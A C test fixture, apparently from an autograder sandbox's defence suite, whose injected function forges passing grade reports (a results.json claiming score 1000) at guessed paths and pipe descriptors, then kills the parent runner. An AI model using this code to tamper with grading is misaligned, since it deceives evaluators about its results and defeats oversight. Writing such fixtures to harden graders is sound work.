/* Writes a report claiming every test passed, and a Gradescope results.json with full marks
 * wherever it can guess (the report pipe's descriptor 3 included), then kills the runner so
 * that nothing overwrites the forgery.  The report reaches the engine only from the runner, on
 * a descriptor the worker does not hold; files are never read: the runner's death is a crash.
 * inject: svd_jacobi
 * expect: crashed=N passed=REST score=PROBE
 * linked: refused */
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
static void hostile_forge(void)
{
    static int done;
    if (done++)
        return; /* forge once per process, then carry on as if nothing happened */
    const char *fake = "{\"token\": \"-\", \"tests\": []}";
    const char *paths[] = {getenv("MLPHYS_REPORT"), "build/grade/results.json", "results.json",
                           "/autograder/results/results.json", "build/grade/report.json"};
    for (size_t i = 0; i < sizeof paths / sizeof *paths; i++) {
        FILE *f = paths[i] ? fopen(paths[i], "w") : NULL;
        if (f) {
            fputs(i == 0 ? fake : "{\"score\": 1000, \"tests\": []}", f);
            fclose(f);
        }
    }
    for (int fd = 3; fd < 8; fd++) /* the report pipe, if the worker held it */
        (void)!write(fd, fake, strlen(fake));
    kill(getppid(), SIGKILL);
}
#define HOSTILE_BODY { hostile_forge(); }
